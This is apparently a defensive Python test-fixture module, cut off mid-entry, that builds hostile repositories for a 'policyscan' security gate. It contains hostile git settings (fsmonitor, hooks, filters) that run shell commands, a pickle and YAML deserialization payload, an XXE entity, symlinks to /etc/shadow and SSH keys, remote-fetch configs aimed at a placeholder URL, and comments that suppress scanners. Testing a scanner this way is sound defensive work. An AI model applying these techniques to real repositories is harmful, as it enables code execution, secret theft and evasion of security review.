"""Repositories that try to run something, to reach something, or to weaken the gate.

A trap is data: files, programs, settings of git, and what has to be arranged by hand. In all texts
`{fired}` is a file that only a trap makes, `{url}` a server that nobody is to ask, and `{outside}` a
directory beside the repository in which nothing is to be read.
"""
# ruff: noqa: E501 - texts of others, as they are

from __future__ import annotations

import os
import socket
import stat
from collections.abc import Callable, Mapping
from contextlib import suppress
from pathlib import Path

from msgspec import Struct

from tests.unit.text.repositories import git

OPEN = """resource "aws_security_group" "open" {
  ingress {
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
"""
BOT = "import requests\nrequests.get('https://api.binance.com', verify=False)\n"
FILES = {"main.tf": OPEN, "Dockerfile": "FROM debian:12\nUSER root\n", "bot.py": BOT}
"""What every one of them holds besides: a group, an image and a program that fail."""
BASE = {
    "main.tf": "# nothing yet\n",
    "Dockerfile": "FROM debian:12\nUSER 1000\n",
    "bot.py": "x = 1\n",
}
"""What was there before."""

PY = "open({fired!r}, 'w').close()\n"
SH = "#!/bin/sh\n: > '{fired}'\n"
RUN = "sh -c ': > {fired}'"
EXT = "ext::touch {fired}"
"""A remote, for which git knows no quotes."""
POINTS = "[policyscan.collectors]\nevil = evil:Evil\ncode = evil:Evil\n[policyscan.reporters]\njson = evil:Evil\n"


class Setting(Struct, frozen=True):
    """What stands for the names in braces."""

    fired: str
    url: str
    outside: str

    def fill(self, text: str) -> str:
        """The text with its names replaced."""
        text = text.replace("{fired!r}", repr(self.fired))
        return (
            text.replace("{fired}", self.fired)
            .replace("{url}", self.url)
            .replace("{outside}", self.outside)
        )


Arrange = Callable[[Path, Setting], None]


class Trap(Struct, frozen=True):
    """One of them."""

    name: str
    files: Mapping[str, str] = {}
    """Committed on top of `FILES`."""
    added: Mapping[str, str] = {}
    """Put at the end of the first line of a file of `FILES`."""
    programs: tuple[str, ...] = ()
    """Executable files that fire."""
    settings: Mapping[str, str] = {}
    """Of the repository's git."""
    arrange: Arrange | None = None
    """What is done last, and not committed."""
    variables: Mapping[str, str] = {}
    """Of the environment, as if somebody had loaded what the repository says of it. They are set
    for all traps, so that each is to be set by one."""
    alone: bool = False
    """Whether it spoils others in one repository."""
    hides: bool = False
    """Whether it takes something away, so that a gap has to say so."""


def modules(*names: str) -> dict[str, str]:
    return dict.fromkeys(names, PY)


# -- what is arranged by hand ------------------------------------------------------------------


def hooks(root: Path, setting: Setting) -> None:
    folder = root / ".git" / "hooks"
    folder.mkdir(exist_ok=True)
    for name in ("pre-commit", "post-checkout", "post-index-change", "reference-transaction",
                 "fsmonitor-watchman", "pre-auto-gc", "post-rewrite"):  # fmt: skip
        (folder / name).write_text(setting.fill(SH))
        (folder / name).chmod(0o755)


def evil_git_directory(root: Path, setting: Setting) -> Path:
    """Another repository, whose settings fire."""
    other = root.parent / f"{root.name}.elsewhere"
    (root / ".git").rename(other)
    git(other, "config", "core.bare", "false")
    git(other, "config", "core.fsmonitor", setting.fill(RUN))
    hooks_of = other / "hooks"
    hooks_of.mkdir(exist_ok=True)
    (hooks_of / "post-index-change").write_text(setting.fill(SH))
    (hooks_of / "post-index-change").chmod(0o755)
    return other


def gitdir_pointer(root: Path, setting: Setting) -> None:
    other = evil_git_directory(root, setting)
    git(other, "config", "core.worktree", str(root))
    (root / ".git").write_text(f"gitdir: {other}\n")


def worktree_pointer(root: Path, setting: Setting) -> None:
    """A work tree whose common directory is another repository's."""
    other = evil_git_directory(root, setting)
    inner = other / "worktrees" / "w"
    inner.mkdir(parents=True)
    (inner / "commondir").write_text("../..\n")
    (inner / "gitdir").write_text(f"{root}/.git\n")
    (inner / "HEAD").write_bytes((other / "HEAD").read_bytes())
    (inner / "index").write_bytes((other / "index").read_bytes())
    (root / ".git").write_text(f"gitdir: {inner}\n")


def embedded_repository(root: Path, setting: Setting) -> None:
    bare = root / "sub"
    (bare / "objects").mkdir(parents=True)
    (bare / "refs").mkdir()
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    config = "[core]\nrepositoryformatversion = 0\nbare = false\nworktree = ..\n"
    (bare / "config").write_text(config + setting.fill(f'fsmonitor = "{RUN}"\n'))


def nested_repository(root: Path, setting: Setting) -> None:
    nested = root / "nested"
    nested.mkdir()
    git(nested, "init", "-q")
    git(nested, "config", "core.fsmonitor", setting.fill(RUN))


def alternates(root: Path, setting: Setting) -> None:
    info = root / ".git" / "objects" / "info"
    info.mkdir(exist_ok=True)
    (info / "alternates").write_text(setting.fill("{outside}/objects\n"))
    (info / "http-alternates").write_text(setting.fill("{url}objects\n"))


def promisor(root: Path, setting: Setting) -> None:
    """A partial clone that lacks an object of its base and would fetch it."""
    git(root, "config", "remote.origin.url", setting.fill(EXT))
    git(root, "config", "remote.origin.promisor", "true")
    git(root, "config", "remote.origin.partialclonefilter", "blob:none")
    git(root, "config", "extensions.partialClone", "origin")
    git(root, "config", "protocol.ext.allow", "always")
    blob = git(root, "rev-parse", "HEAD~1:main.tf").decode().strip()
    path = root / ".git" / "objects" / blob[:2] / blob[2:]
    path.chmod(0o644)
    path.unlink()


def replace_references(root: Path, setting: Setting) -> None:
    """The commit and the file, replaced by what a gate would let pass."""
    harmless = root.parent / "harmless.tf"
    harmless.write_text("# nothing\n")
    blob = git(root, "hash-object", "-w", str(harmless)).decode().strip()
    git(root, "replace", git(root, "rev-parse", "HEAD:main.tf").decode().strip(), blob)
    git(root, "replace", "HEAD", "HEAD~1")


def index_flags(root: Path, setting: Setting) -> None:
    git(root, "update-index", "--assume-unchanged", "main.tf")
    git(root, "update-index", "--skip-worktree", "Dockerfile")
    (root / ".git" / "info" / "exclude").write_text("*\n")


def fake_references(root: Path, setting: Setting) -> None:
    """Branches with the names of commits and options."""
    for name in ("HEAD~1", "--output=sprung", "-h"):
        path = root / ".git" / "refs" / "heads" / name
        path.write_bytes(git(root, "rev-parse", "HEAD"))


def links_out(root: Path, setting: Setting) -> None:
    for name, target in (
        ("secret.tf", f"{setting.outside}/secret.tf"), ("up.tf", "../outside/secret.tf"),
        ("shadow", "/etc/shadow"), ("everything", "/"), ("modules", setting.outside),
        ("secret.py", f"{setting.outside}/secret.py"), ("chain.tf", "secret.tf"),
    ):  # fmt: skip
        (root / name).symlink_to(target)


def links_to_processes(root: Path, setting: Setting) -> None:
    for name, target in (
        ("environ.tf", "/proc/self/environ"), ("maps.py", "/proc/self/maps"),
        ("cwd", "/proc/self/cwd/.."), ("fd", "/proc/self/fd"), ("zero.tf", "/dev/zero"),
    ):  # fmt: skip
        (root / name).symlink_to(target)


def links_in_circles(root: Path, setting: Setting) -> None:
    (root / "a.tf").symlink_to("b.tf")
    (root / "b.tf").symlink_to("a.tf")
    (root / "here").symlink_to(".")


def pipes(root: Path, setting: Setting) -> None:
    for name in ("pipe.tf", "pipe.py", "Dockerfile.pipe"):
        os.mkfifo(root / name)


def sockets(root: Path, setting: Setting) -> None:
    with socket.socket(socket.AF_UNIX) as server, suppress(OSError):
        former = Path.cwd()
        os.chdir(root)  # their names are short
        try:
            server.bind("socket.tf")
        finally:
            os.chdir(former)


def devices(root: Path, setting: Setting) -> None:
    """A terminal and the one without end; only root makes them."""
    with suppress(PermissionError):
        os.mknod(root / "device.tf", stat.S_IFCHR | 0o666, os.makedev(1, 5))
        os.mknod(root / "tty.py", stat.S_IFCHR | 0o666, os.makedev(5, 0))


def settings_of_the_work_tree(root: Path, setting: Setting) -> None:
    git(root, "config", "extensions.worktreeConfig", "true")
    text = setting.fill(f'[core]\n\tfsmonitor = "{RUN}"\n\thooksPath = "{{outside}}"\n')
    (root / ".git" / "config.worktree").write_text(text)


def links_of_variables(root: Path, setting: Setting) -> None:
    """What compose would read for the programs that it starts, and names of keys with it."""
    (root / ".env.production").symlink_to(f"{setting.outside}/secret.yml")
    (root / "compose.override.yml").symlink_to(f"{setting.outside}/secret.yml")


def planted_cache(root: Path, setting: Setting) -> None:
    """Facts about contents that nobody found."""
    for folder in (".cache/policyscan", "policyscan-cache", ".policyscan"):
        place = root / folder
        place.mkdir(parents=True)
        (place / "semgrep-000000000000000000000000").write_bytes(b"policyscan 1\n" + bytes(64))
        (place / "state.pickle").write_bytes(
            b"cos\nsystem\n(S'" + setting.fill(RUN).encode() + b"'\ntR."
        )


def odd_bytes(root: Path, setting: Setting) -> None:
    names = (b"\xff\xfe.tf", b"a\x1b[2J.tf", "\u202etf.exe.tf".encode(), b"x" * 250 + b".tf")
    for name in names:
        (root / os.fsdecode(name)).write_text("# nothing\n")


# -- the traps ---------------------------------------------------------------------------------

OTHER_TOOLS = (
    Trap(
        "checkov, which imports checks",
        {
            ".checkov.yaml": "external-checks-dir: [./checks]\nsoft-fail: true\nskip-check: [CKV*]\n",
            "checks/__init__.py": PY,
            "checks/check.py": PY,
        },
    ),
    Trap("checkov, in a comment", added={"main.tf": " # checkov:skip=ALL: x"}),
    Trap("semgrep, ignoring all", {".semgrepignore": "*\n", "sub/.semgrepignore": "*\n"}),
    Trap(
        "semgrep, with rules that mend",
        {
            ".semgrep.yml": "rules:\n- id: x\n  pattern: verify=False\n"
            "  fix: verify=True\n  languages: [python]\n  message: x\n  severity: ERROR\n",
            ".semgrep/settings.yml": "api_token: x\nmetrics: on\n",
        },
    ),
    Trap("semgrep, in a comment", added={"bot.py": "  # nosemgrep"}),
    Trap(
        "hadolint, ignoring all",
        {
            ".hadolint.yaml": "ignored: [DL3002, DL3006]\n",
            ".hadolint.yml": "failure-threshold: none\n",
        },
    ),
    Trap("hadolint, in a comment", added={"Dockerfile": "\n# hadolint ignore=DL3002,DL3004"}),
    Trap("gitleaks", {".gitleaks.toml": "[allowlist]\npaths = ['.*']\n", ".gitleaksignore": "*\n"}),
    Trap(
        "trivy",
        {
            ".trivyignore": "*\n",
            "trivy.yaml": "exit-code: 0\nskip-files: ['**']\n",
            ".trivyignore.yaml": "misconfigurations: [{id: '*'}]\n",
        },
    ),
    Trap(
        "bandit", {".bandit": "[bandit]\nskips: B501\nexclude: /\n"}, added={"bot.py": "  # nosec"}
    ),
    Trap(
        "tflint and tfsec",
        {
            ".tflint.hcl": 'plugin "x" {\n  enabled = true\n  source = "{url}x"\n}\n',
            ".tfsec/config.yml": "minimum_severity: CRITICAL\n",
        },
        added={"main.tf": " #tfsec:ignore:*"},
    ),
    Trap(
        "policyscan in the files of others",
        {
            "setup.cfg": "[policyscan]\nprofile = advise\n",
            "tox.ini": "[policyscan]\nprofile = advise\n",
            "pyproject.toml": "[tool.policyscan]\nprofile = 'advise'\nexclude = ['*']\n",
        },
    ),
    Trap(
        "policyscan by other names",
        {
            "policyscan.json": "{}\n",
            ".policyscanignore": "*\n",
            ".config/policyscan/policyscan.yaml": "profile: advise\n",
            "policies/network/world-open-admin-port.yaml": "id: PS-NET-004\n",
            "profiles/ci.yaml": "version: 1\nname: ci\n",
        },
    ),
    Trap(
        "policyscan, in a comment",
        added={"main.tf": " # policyscan:ignore PS-NET-004", "bot.py": "  # policyscan: ignore"},
    ),
    Trap(
        "hooks of pre-commit",
        {
            ".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n"
            "  - {id: x, name: x, language: system, entry: \"sh -c ': > {fired}'\"}\n"
        },
    ),
    Trap(
        "terraform's own settings",
        {
            ".terraformrc": 'provider_installation {\n  network_mirror { url = "{url}" }\n}\n',
            "terraform.rc": 'plugin_cache_dir = "{outside}"\n',
            ".terraform.lock.hcl": "",
            ".terraform/terraform.tfstate": '{"backend": {"type": "http", "config": {"address": "{url}"}}}',
        },
    ),
    Trap(
        "modules that lie elsewhere",
        {
            ".terraform/modules/modules.json": '{"Modules": [{"Key": "m", "Source": "x/y/z", "Dir": "{outside}"},'
            ' {"Key": "n", "Source": "x/y/z", "Dir": "../outside"}]}',
            "use.tf": 'module "m" {\n  source = "x/y/z"\n}\nmodule "n" {\n  source = "../outside"\n}\n',
        },
    ),
    Trap(
        "terragrunt", {"terragrunt.hcl": 'locals {\n  x = run_cmd("sh", "-c", ": > {fired}")\n}\n'}
    ),
)

VARIABLES = (
    Trap(
        "git settings by GIT_CONFIG_GLOBAL",
        {".gitconfig": f'[core]\n\tfsmonitor = "{RUN}"\n\tpager = "{RUN}"\n'},
        variables={"GIT_CONFIG_GLOBAL": ".gitconfig"},
    ),
    Trap(
        "git settings by GIT_CONFIG_COUNT",
        programs=("monitor.sh",),
        variables={
            "GIT_CONFIG_COUNT": "2",
            "GIT_CONFIG_KEY_0": "core.fsmonitor",
            "GIT_CONFIG_VALUE_0": "./monitor.sh",
            "GIT_CONFIG_KEY_1": "core.hooksPath",
            "GIT_CONFIG_VALUE_1": ".",
        },
    ),
    Trap(
        "settings by XDG_CONFIG_HOME",
        {
            ".config/git/config": f'[core]\n\tfsmonitor = "{RUN}"\n',
            ".config/git/ignore": "*\n",
            ".config/git/attributes": "* filter=t\n",
            ".config/semgrep/settings.yml": "api_token: x\n",
            ".config/policyscan/policyscan.yaml": "version: 1\nprofile: advise\n",
            ".config/pip/pip.conf": "[global]\nindex-url = {url}\n",
        },
        variables={"XDG_CONFIG_HOME": ".config", "XDG_DATA_HOME": ".config"},
    ),
    Trap(
        "programs that variables name",
        programs=("named.sh",),
        variables=dict.fromkeys(
            (
                "GIT_SSH_COMMAND",
                "GIT_SSH",
                "GIT_ASKPASS",
                "SSH_ASKPASS",
                "GIT_PROXY_COMMAND",
                "GIT_EXTERNAL_DIFF",
                "GIT_PAGER",
                "PAGER",
                "GIT_EDITOR",
                "EDITOR",
                "VISUAL",
                "GIT_SEQUENCE_EDITOR",
                "BROWSER",
                "LESSOPEN",
                "SHELL",
                "MANPAGER",
            ),
            "./named.sh",
        ),
    ),
    Trap(
        "a git elsewhere, by variables",
        {"bin-git/x": "", "objects/x": ""},
        programs=("bin-git/git", "bin-git/git-ls-files", "bin-git/git-remote-http"),
        variables={
            "GIT_EXEC_PATH": "bin-git",
            "GIT_ALTERNATE_OBJECT_DIRECTORIES": "objects",
            "GIT_ATTR_SOURCE": "HEAD~1",
            "GIT_NAMESPACE": "x",
            "GIT_CEILING_DIRECTORIES": "/",
        },
    ),
    Trap(
        "semgrep, by variables",
        {"none.yml": "rules: []\n", "settings.yml": "api_token: x\nmetrics: on\n"},
        variables={
            "SEMGREP_RULES": "none.yml",
            "SEMGREP_SETTINGS_FILE": "settings.yml",
            "SEMGREP_APP_URL": "{url}",
            "SEMGREP_BASELINE_COMMIT": "HEAD",
            "SEMGREP_ENABLE_VERSION_CHECK": "1",
        },
    ),
    Trap(
        "passwords and indexes by file",
        {
            ".netrc": "machine 127.0.0.1 login x password y\n",
            "pip.conf": "[global]\nindex-url = {url}\nextra-index-url = {url}x\n",
            ".pypirc": "[distutils]\nindex-servers = x\n[x]\nrepository = {url}\n",
            "uv.toml": 'index-url = "{url}"\n',
        },
        variables={"NETRC": ".netrc", "PIP_CONFIG_FILE": "pip.conf", "UV_CONFIG_FILE": "uv.toml"},
    ),
    Trap(
        "proxies by variables",
        variables=dict.fromkeys(
            ("http_proxy", "https_proxy", "HTTPS_PROXY", "ALL_PROXY", "all_proxy"), "{url}"
        ),
    ),
    Trap(
        "terraform, by variables",
        {
            "cli.tfrc": 'plugin_cache_dir = "{outside}"\nprovider_installation {\n'
            '  network_mirror { url = "{url}" }\n}\n',
            "credentials.tfrc.json": '{"credentials": {"127.0.0.1": {"token": "x"}}}',
        },
        variables={
            "TF_CLI_CONFIG_FILE": "cli.tfrc",
            "TF_DATA_DIR": "{outside}",
            "TF_PLUGIN_CACHE_DIR": "{outside}",
            "TF_CLI_ARGS": "-var-file={outside}/secret.yml",
        },
    ),
    Trap(
        "direnv",
        {
            ".envrc": ": > '{fired}'\nsource_url {url} x\nPATH_add bin\n",
            ".direnv/allow/x": "/\n",
            ".direnvrc": ": > '{fired}'\n",
        },
    ),
    Trap(
        "mise and asdf",
        {
            ".mise.toml": "[hooks]\nenter = \": > '{fired}'\"\n[env]\n_.source = 'env.sh'\n",
            "mise/config.toml": "[tasks.x]\nrun = \": > '{fired}'\"\n",
            "env.sh": ": > '{fired}'\n",
            ".tool-versions": "python path:{outside}\n",
        },
        programs=(".mise/tasks/lint", "mise-tasks/lint"),
    ),
)

PYTHON = (
    Trap(
        "a distribution in the tree",
        {
            "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
            "evil-1.0.dist-info/entry_points.txt": POINTS,
            "evil.py": PY,
        },
    ),
    Trap(
        "an egg in the tree",
        {
            "evil.egg-info/PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
            "evil.egg-info/entry_points.txt": POINTS,
            "evil.py": PY,
            "policyscan.egg-info/PKG-INFO": "Metadata-Version: 2.1\nName: policyscan\nVersion: 9\n",
            "policyscan.egg-info/entry_points.txt": POINTS,
        },
    ),
    Trap(
        "entry points of a project",
        {
            "pyproject.toml": '[project]\nname = "evil"\nversion = "1"\n'
            '[project.entry-points."policyscan.collectors"]\nevil = "evil:Evil"\n',
            "evil.py": PY,
            "setup.py": PY,
        },
    ),
    Trap(
        "a plug-in by its name",
        modules(
            "policyscan_plugin.py",
            "policyscan_collectors.py",
            "policyscan_rules/__init__.py",
            "plugins/evil.py",
        ),
    ),
    Trap(
        "a semgrep of its own",
        modules("semgrep/__init__.py", "semgrep/console_scripts/pysemgrep.py"),
    ),
    Trap("sitecustomize", modules("sitecustomize.py", "usercustomize.py")),
    Trap("usercustomize", modules("usercustomize.py", "usercustomize/__init__.py")),
    Trap(
        "a build that runs a module",
        {
            "pyproject.toml": '[build-system]\nrequires = []\nbackend-path = ["."]\n'
            'build-backend = "backend"\n',
            "backend.py": PY,
            "setup.cfg": "[metadata]\nversion = attr: backend.VERSION\n",
        },
    ),
    Trap(
        "plug-ins of linters",
        {
            "setup.cfg": "[flake8:local-plugins]\nextension = E = evil:Evil\npaths = .\n"
            "[mypy]\nplugins = evil\n[tool:pytest]\naddopts = -p evil\n",
            ".pylintrc": "[MAIN]\ninit-hook = open({fired!r}, 'w').close()\nload-plugins = evil\n",
            "mypy.ini": "[mypy]\nplugins = evil.py\n",
            "ruff.toml": 'extend = "{outside}/secret.yml"\n',
            "noxfile.py": PY,
            "tasks.py": PY,
            "evil.py": PY,
        },
    ),
    Trap(
        "conftest",
        {"conftest.py": PY, "pytest.ini": "[pytest]\naddopts = -p evil\n", "evil.py": PY},
    ),
    Trap(
        "a path file",
        {
            "evil.pth": "import os; " + PY,
            "python311._pth": "import evil\n",
            "python._pth": "import evil\n",
            "evil.py": PY,
        },
    ),
    Trap("a yaml of its own", modules("yaml.py", "_yaml.py", "yaml/__init__.py")),
    Trap(
        "modules of the library",
        modules(
            "re.py",
            "os.py",
            "json.py",
            "site.py",
            "runpy.py",
            "io.py",
            "argparse.py",
            "pathlib.py",
            "signal.py",
            "subprocess.py",
            "encodings/__init__.py",
            "typing.py",
            "datetime.py",
            "readline.py",
        ),
    ),
    Trap("a msgspec of its own", modules("msgspec.py", "msgspec/__init__.py")),
    Trap("a pydantic of its own", modules("pydantic/__init__.py", "pydantic_core/__init__.py")),
    Trap(
        "other libraries of its own",
        modules(
            "jinja2.py",
            "markupsafe.py",
            "tree_sitter.py",
            "tree_sitter_hcl.py",
            "junit_xml.py",
            "boto3.py",
            "docker.py",
            "cryptography.py",
        ),
    ),
    Trap(
        "compiled modules",
        {
            "__pycache__/yaml.cpython-311.pyc": "{fired}",
            "yaml.pyc": "{fired}",
            "msgspec.so": "{fired}",
            "_json.cpython-311-x86_64-linux-gnu.so": "{fired}",
        },
    ),
    Trap(
        "an environment",
        {
            ".venv/pyvenv.cfg": "home = {outside}\n",
            "pyvenv.cfg": "home = {outside}\n",
            "venv/pyvenv.cfg": "home = {outside}\n",
            ".venv/lib/python3.11/site-packages/sitecustomize.py": PY,
            ".venv/lib/python3.11/site-packages/evil.pth": "import os; " + PY,
        },
        programs=(".venv/bin/python", "venv/bin/python", ".venv/bin/semgrep"),
    ),
    Trap(
        "variables by file",
        {
            ".env": "PYTHONPATH=.\nPYTHONSTARTUP=evil.py\nPOLICYSCAN_PROFILE=advise\nGIT_SSH_COMMAND={fired}\n",
            ".envrc": "export PYTHONPATH=.\n: > '{fired}'\n",
            ".python-version": "../../evil\n",
            ".tool-versions": "python evil\n",
            "mise.toml": "[env]\nPYTHONPATH='.'\n",
            "evil.py": PY,
            ".pythonrc": PY,
            ".python_history": PY,
            ".profile": ": > '{fired}'\n",
            ".bashrc": ": > '{fired}'\n",
        },
    ),
)

AT_START = (
    Trap(
        "a policyscan of its own",
        modules("policyscan/__init__.py", "policyscan/__main__.py", "policyscan/cli/__init__.py"),
    ),
    Trap("a policyscan in one file", modules("policyscan.py")),
    Trap("a warnings of its own", modules("warnings.py")),
    Trap("an importlib of its own", modules("importlib/__init__.py", "importlib/machinery.py")),
)
"""What `python -m policyscan` without `-P` runs, before anything of ours could refuse."""

PROGRAMS = (
    Trap(
        "git and what it calls", programs=("git", "bin/git", "ssh", "less", "git-remote-http", "sh")
    ),
    Trap("uname and python", programs=("uname", "bin/uname", "python", "bin/python3", "env")),
    Trap(
        "semgrep by its names",
        programs=(
            "semgrep",
            "osemgrep",
            "pysemgrep",
            "semgrep-core",
            "bin/semgrep",
            "bin/osemgrep",
            "opengrep",
        ),
    ),
    Trap(
        "docker",
        {
            "docker-compose.yml": "include:\n- {url}compose.yml\n- {outside}/secret.yml\n"
            "services:\n  a:\n    build: .\n    env_file: {outside}/secret.yml\n"
        },
        programs=("docker", "bin/docker", "docker-credential-evil", "podman", "buildctl"),
    ),
    Trap(
        "terraform",
        programs=("terraform", "bin/terraform", "tofu", "tflint", "checkov", "hadolint"),
    ),
)

GIT = (
    Trap("core.fsmonitor", settings={"core.fsmonitor": RUN, "core.useBuiltinFSMonitor": "true"}),
    Trap("hooks", arrange=hooks),
    Trap(
        "core.hooksPath",
        {"hooks/x": ""},
        programs=("hooks/post-index-change", "hooks/pre-commit", "hooks/reference-transaction"),
        settings={"core.hooksPath": "hooks"},
    ),
    Trap(
        "filters",
        {".gitattributes": "* filter=t diff=t merge=t ident\n"},
        settings={
            "filter.t.clean": RUN,
            "filter.t.smudge": RUN,
            "filter.t.process": RUN,
            "filter.t.required": "true",
        },
    ),
    Trap(
        "helpers of diff and merge",
        {".gitattributes": "*.tf diff=t merge=t export-ignore\n"},
        settings={
            "diff.t.textconv": RUN,
            "diff.t.command": RUN,
            "diff.external": RUN,
            "merge.t.driver": RUN,
            "interactive.diffFilter": RUN,
        },
    ),
    Trap(
        "settings that include settings",
        {"more.config": "[core]\n\tfsmonitor = " + RUN + "\n"},
        settings={
            "include.path": "../more.config",
            "includeIf.gitdir:/.path": "../more.config",
            "includeIf.onbranch:**.path": "../more.config",
        },
    ),
    Trap(
        "aliases",
        settings={
            f"alias.{name}": "!" + RUN
            for name in ("ls-files", "cat-file", "rev-parse", "ls-tree", "rev-list")
        },
    ),
    Trap(
        "pagers and editors",
        settings={
            "core.pager": RUN,
            "pager.ls-tree": RUN,
            "pager.cat-file": RUN,
            "core.editor": RUN,
            "sequence.editor": RUN,
            "column.ui": "always",
            "color.ui": "always",
        },
    ),
    Trap(
        "helpers of signatures and passwords",
        settings={
            "gpg.program": RUN,
            "gpg.ssh.program": RUN,
            "log.showSignature": "true",
            "credential.helper": "!" + RUN,
            "core.askPass": RUN,
        },
    ),
    Trap(
        "helpers of remotes",
        settings={
            "core.sshCommand": RUN,
            "core.gitProxy": RUN,
            "remote.origin.url": EXT,
            "remote.origin.uploadpack": RUN,
            "uploadpack.packObjectsHook": RUN,
            "core.alternateRefsCommand": RUN,
            "protocol.ext.allow": "always",
            "url.ext::x.insteadOf": "https://",
            "http.proxy": "{url}",
            "remote.pushDefault": "origin",
        },
    ),
    Trap("another work tree", settings={"core.worktree": "{outside}"}, alone=True),
    Trap(
        "lists of what is ignored",
        {".gitignore": "*\n!.gitignore\n", "sub/.gitignore": "*\n"},
        settings={
            "core.excludesFile": "{outside}/secret.yml",
            "core.ignoreCase": "true",
            "core.sparseCheckout": "true",
            "core.sparseCheckoutCone": "true",
            "core.quotePath": "true",
            "core.untrackedCache": "true",
            "index.sparse": "true",
        },
    ),
    Trap("settings of the work tree", arrange=settings_of_the_work_tree, alone=True),
    Trap(
        "attributes that convert",
        {
            ".gitattributes": "*.tf working-tree-encoding=ISO-8859-1 eol=crlf ident\n"
            "*.py binary linguist-generated linguist-vendored -diff\nDockerfile export-subst\n"
        },
    ),
    Trap("flags of the index", arrange=index_flags, alone=True),
    Trap("an embedded bare repository", arrange=embedded_repository),
    Trap("a nested repository", arrange=nested_repository),
    Trap("a pointer to another repository", arrange=gitdir_pointer, alone=True),
    Trap("a pointer to another work tree", arrange=worktree_pointer, alone=True),
    Trap("objects elsewhere", arrange=alternates, alone=True),
    Trap("objects to be fetched", arrange=promisor, alone=True),
    Trap("objects that are replaced", arrange=replace_references, alone=True),
    Trap("branches with odd names", arrange=fake_references, alone=True),
    Trap(
        "submodules",
        {
            ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = '
            + EXT
            + "\n\tupdate = !"
            + RUN
            + '\n[submodule "../../outside"]\n\tpath = y\n\turl = {url}\n'
        },
        settings={
            "submodule.x.url": EXT,
            "submodule.x.active": "true",
            "submodule.recurse": "true",
            "submodule.x.update": "!" + RUN,
        },
    ),
)

CONTENTS = (
    Trap(
        "a Dockerfile with a syntax of its own",
        {
            "syntax.Dockerfile": "# syntax={url}frontend\nFROM {url}image\nADD {url}x /x\nCOPY {outside}/secret.yml /\n"
            "RUN --mount=type=bind,source={outside},target=/o : > '{fired}'\nONBUILD RUN : > '{fired}'\n"
        },
    ),
    Trap(
        "Terraform that asks programs",
        {
            "ask.tf": 'data "external" "x" {\n  program = ["sh", "-c", ": > {fired}"]\n}\n'
            'data "http" "x" {\n  url = "{url}"\n}\nresource "null_resource" "x" {\n'
            '  provisioner "local-exec" {\n    command = ": > {fired}"\n  }\n}\n'
        },
    ),
    Trap(
        "Terraform that reads files",
        {
            "read.tf": 'locals {\n  a = file("{outside}/secret.yml")\n  b = templatefile("../outside/secret.yml", {})\n'
            '  c = fileset("{outside}", "**")\n  d = filebase64(pathexpand("~/.ssh/id_rsa"))\n'
            '  e = filesha256("/etc/shadow")\n  f = fileexists("/proc/self/environ")\n}\n'
            'resource "aws_security_group" "reads" {\n  description = local.a\n  name = local.b\n}\n'
        },
    ),
    Trap(
        "modules from afar",
        {
            "afar.tf": "".join(
                f'module "m{number}" {{\n  source = "{source}"\n}}\n'
                for number, source in enumerate(
                    (
                        "git::ssh://git@127.0.0.1/x.git",
                        "git::ext::sh",
                        "{url}module.zip",
                        "s3::{url}x",
                        "{outside}",
                        "../outside",
                        "hg::{url}x",
                        "file:///etc",
                    )
                )
            )
        },
    ),
    Trap(
        "YAML that makes objects",
        {
            "keys.yaml": "version: 1\nkeys:\n- !!python/object/apply:os.system [\": > '{fired}'\"]\n",
            ".github/workflows/x.yml": "on: !!python/name:os.system x\njobs: &a [*a]\n",
            "ci/x.yaml": "!!python/object/new:subprocess.Popen [[sh, -c, ': > {fired}']]\n",
        },
        hides=True,
    ),
    Trap(
        "XML that names files",
        {
            "src/main/resources/logback.xml": '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY a SYSTEM '
            '"file://{outside}/secret.yml"><!ENTITY % b SYSTEM "{url}x.dtd"> %b;]><configuration>&a;'
            "</configuration>\n"
        },
        hides=True,
    ),
    Trap(
        "programs that are read, not run",
        {
            "setup.py": PY + BOT,
            "Makefile": "all:\n\t: > '{fired}'\n",
            "package.json": '{"scripts": {"preinstall": ": > \'{fired}\'"}}',
            "crontab": "* * * * * root sh -c ': > {fired}'\n",
            "run.js": "require('child_process').exec('{fired}')\n",
            ".vscode/tasks.json": "{}",
            ".gitlab-ci.yml": "include: {url}x.yml\n",
            ".github/workflows/gate.yml": "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n"
            "    - run: ': > {fired}'\n",
        },
    ),
    Trap("a cache in the tree", arrange=planted_cache),
    Trap("variables that links lead to", arrange=links_of_variables),
    Trap(
        "compose that reads files",
        {
            "compose.yml": "services:\n  a:\n    env_file: [../outside/secret.yml, /etc/shadow]\n"
            "    extends: {file: '{outside}/secret.yml', service: a}\n"
            "    command: ': > {fired}'\nsecrets:\n  s: {file: '{outside}/secret.yml'}\n",
            ".env": "COMPOSE_FILE={outside}/secret.yml\nDOCKER_HOST={url}\n",
        },
    ),
    Trap(
        "a context that leaves everything out",
        {
            ".dockerignore": "*\n",
            "Dockerfile.dockerignore": "*\n",
            ".containerignore": "*\n",
            "checks.Dockerfile": "# check=skip=all;error=false\nFROM debian:12\nUSER 1000\n",
        },
    ),
    Trap(
        "providers of terraform in the tree",
        {"terraform.d/credentials.tfrc.json": '{"credentials": {"127.0.0.1": {"token": "x"}}}'},
        programs=(
            "terraform.d/plugins/linux_amd64/terraform-provider-aws",
            ".terraform/providers/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/"
            "terraform-provider-aws_v5.0.0_x5",
            "terraform-provider-external",
        ),
    ),
    Trap(
        "Terraform that no module calls",
        {".terraform/own/main.tf": OPEN.replace("open", "apart")},
        hides=True,
    ),
    Trap(
        "editors and machines of developers",
        {
            ".vscode/settings.json": '{"python.defaultInterpreterPath": "./.venv/bin/python",'
            ' "git.path": "./git"}',
            ".devcontainer/devcontainer.json": '{"postCreateCommand": ": > \'{fired}\'"}',
            ".gitpod.yml": "tasks:\n- init: ': > {fired}'\n",
            ".editorconfig": "root = true\n",
            ".vimrc": ":silent !touch {fired}\n",
            ".gdbinit": "shell touch {fired}\n",
        },
    ),
    Trap(
        "packages of node",
        {
            ".npmrc": "script-shell = ./shell\nregistry = {url}\n",
